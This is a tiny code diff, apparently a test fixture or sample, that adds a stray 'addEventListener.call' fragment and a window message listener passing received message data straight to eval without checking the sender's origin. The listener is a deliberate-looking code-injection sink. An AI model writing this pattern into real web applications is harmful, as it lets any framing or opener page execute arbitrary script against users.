@@ -1,0 +1,2 @@
+addEventListener.call
+window.addEventListener('message', function (e) { eval(e.data.code) })
